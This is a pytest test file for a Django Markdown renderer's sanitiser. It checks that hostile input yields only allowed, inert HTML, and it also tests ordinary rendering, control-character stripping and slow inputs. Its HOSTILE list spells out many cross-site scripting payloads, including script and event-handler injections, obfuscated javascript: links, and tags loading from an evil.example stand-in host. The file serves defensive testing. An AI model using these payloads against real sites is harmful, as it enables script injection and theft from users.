"""What nobody vouches for becomes HTML that can do nothing but be read."""

from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.template import Context, Template
from django.utils.safestring import SafeString

from knowledge.markup import ATTRIBUTES, CELL_CLASSES, SCROLLING, TAGS, render_markdown
from tests.hostile.payloads import ALL_IN_ONE, PAYLOADS

SEED = Path(__file__).parents[2] / "knowledge" / "seed" / "articles"

HOSTILE = [
    # Elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<p id=announcer class=alert hx-get=/sign-out/ hx-trigger=load>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<scr\x00ipt>alert(1)</script>",
    # Links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](/sign-out/)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](?page=2)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    # Images
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    "![<img src=x onerror=alert(1)>](https://a.example/x.png)",
    "[![x](https://evil.example/pixel.gif)](https://a.example)",
    # Where other Markdown lands
    "```<script>\nalert(1)\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n| :-: |\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
]


class Reader(HTMLParser):
    """Collects what a browser would take for elements and attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.markup: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.markup.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_makes_only_allowed_elements(text: str) -> None:
    reader = Reader(render_markdown(text))
    assert not reader.markup
    for tag, attributes in reader.elements:
        assert tag in TAGS
        check_attributes(tag, attributes)


def test_nothing_of_the_corpus_makes_anything_else() -> None:
    """Each payload alone, and all of them in one text; `tests/e2e/test_answers.py` shows them."""
    for text in [*PAYLOADS, ALL_IN_ONE]:
        test_hostile_text_makes_only_allowed_elements(text)


def check_attributes(tag: str, attributes: dict[str, str | None]) -> None:
    own = ATTRIBUTES.get(tag, set()) | SCROLLING.get(tag, {}).keys()
    assert attributes.keys() <= own | {"rel", "class"}
    assert attributes.get("tabindex") in {None, "0"}
    assert attributes.get("class") in {None, "", "table-scroll", *CELL_CLASSES}
    if "href" in attributes:
        assert attributes["href"].startswith(("http://", "https://", "mailto:"))
        assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("plain", "<p>plain</p>"),
        ("one\ntwo", "<p>one\ntwo</p>"),
        ("one  \ntwo", "<p>one<br>\ntwo</p>"),
        ("one\r\n\r\ntwo", "<p>one</p>\n<p>two</p>"),
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("```python\na < b\n```", '<pre tabindex="0"><code>a &lt; b\n</code></pre>'),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>"),
        ("AT&T & 1 < 2", "<p>AT&amp;T &amp; 1 &lt; 2</p>"),
        ("https://a.example", "<p>https://a.example</p>"),
        ("", ""),
    ],
)
def test_ordinary_markdown_becomes_html(text: str, html: str) -> None:
    assert render_markdown(text).strip() == html


@pytest.mark.parametrize(
    "url",
    ["https://a.example/x?y=1&z=2#w", "http://a.example", "mailto:desk@a.example", "HTTPS://A.B"],
)
def test_links_that_may_stay(url: str) -> None:
    [(_, attributes)] = Reader(render_markdown(f"[x]({url})")).elements[1:]
    assert attributes == {"href": url, "rel": "noopener noreferrer nofollow"}


def test_what_may_not_be_a_link_stays_readable() -> None:
    assert Reader(render_markdown("[here](/sign-out/)")).text.strip() == "[here](/sign-out/)"


def test_html_shows_as_text() -> None:
    text = "Use <b>bold</b> & <script>alert(1)</script>"
    assert Reader(render_markdown(text)).text.strip() == text


def test_an_image_is_its_alternative_text() -> None:
    html = render_markdown("Map: ![the *river* <road>](https://a.example/map.png)")
    assert html.strip() == "<p>Map: the river &lt;road&gt;</p>"


@pytest.mark.parametrize(
    ("levels", "expected"),
    [([1, 2, 3], [3, 4, 5]), ([2, 3], [3, 4]), ([4], [3]), ([1, 6], [3, 6]), ([3, 2], [4, 3])],
)
def test_headings_start_below_the_page_s_own(levels: list[int], expected: list[int]) -> None:
    html = render_markdown("\n\n".join(f"{'#' * level} x" for level in levels))
    assert [tag for tag, _ in Reader(html).elements] == [f"h{level}" for level in expected]


def test_tables_scroll_and_align_without_inline_style() -> None:
    html = render_markdown("| a | b | c |\n| --- | :-: | --: |\n| 1 | 2 | 3 |")
    assert html.startswith('<div class="table-scroll" tabindex="0"><table>')
    classes = [attributes.get("class") for tag, attributes in Reader(html).elements if tag == "td"]
    assert classes == [None, "text-center", "text-right"]
    assert "style" not in html


@pytest.mark.parametrize(
    "text",
    [
        "\u202epass\u202c",
        "\u2066pa\u2067s\u2068s\u2069",
        "\u202apa\u202bs\u202ds",
        "pa\x00ss",
        "pa\x1b\x7f\x9bss",
        "pa\ud800ss\udfff",
        "&#x202E;pass&#x2069;",
        "&#8238;pass",
    ],
)
def test_characters_that_deceive_or_break_are_dropped(text: str) -> None:
    assert render_markdown(text) == "<p>pass</p>\n"


@pytest.mark.parametrize("text", ["عربي \u200fعبري", "e\u0301", "👩\u200d🚒", "日本", "a\tb"])
def test_the_world_s_writing_stays(text: str) -> None:
    assert render_markdown(text) == f"<p>{text}</p>\n"


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "piece", ["*a ", "[", ">", "`a", "![", "- ", "_a__", "&", "<", "[a](", "~~a", "<a:", "|a"]
)
def test_no_text_takes_long(piece: str) -> None:
    render_markdown(piece * 10_000)


def test_the_filter_is_safe_where_the_text_is_not() -> None:
    template = Template("{% load markup %}{{ text|markdown }}")
    assert template.render(Context({"text": "*a* <b>"})) == "<p><em>a</em> &lt;b&gt;</p>\n"
    assert isinstance(render_markdown("a"), SafeString)


@pytest.mark.parametrize("path", sorted(SEED.glob("*.md")), ids=lambda path: path.stem)
def test_the_seed_s_articles_lose_nothing(path: Path) -> None:
    text = path.read_text().split("---\n", 2)[2]
    shown = Reader(render_markdown(text)).text
    assert len(shown) > 0.9 * len(text.strip())
